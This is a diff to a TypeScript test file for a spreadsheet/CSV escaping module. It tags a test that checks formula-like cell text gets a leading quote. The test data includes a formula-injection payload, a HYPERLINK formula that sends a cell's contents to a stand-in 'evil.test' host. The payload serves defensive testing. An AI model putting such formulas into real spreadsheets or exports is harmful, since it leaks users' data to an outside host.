@@ -1,7 +1,9 @@
 import { expect, test } from 'vitest'
 import { escapeFormulas, unescapeFormulas, writeCsvLine } from './spreadsheet.ts'
 
-test('a text that begins as a formula gets a quote, also where a spreadsheet of another delimiter begins a cell', () => {
+test('a text that begins as a formula gets a quote, also where a spreadsheet of another delimiter begins a cell', {
+  tags: ['formula-starts'],
+}, () => {
   for (const [text, cell] of [
     ['=HYPERLINK("http://evil.test/?"&B2,"open")', '\'=HYPERLINK("http://evil.test/?"&B2,"open")'],
     ['-2+3', "'-2+3"],
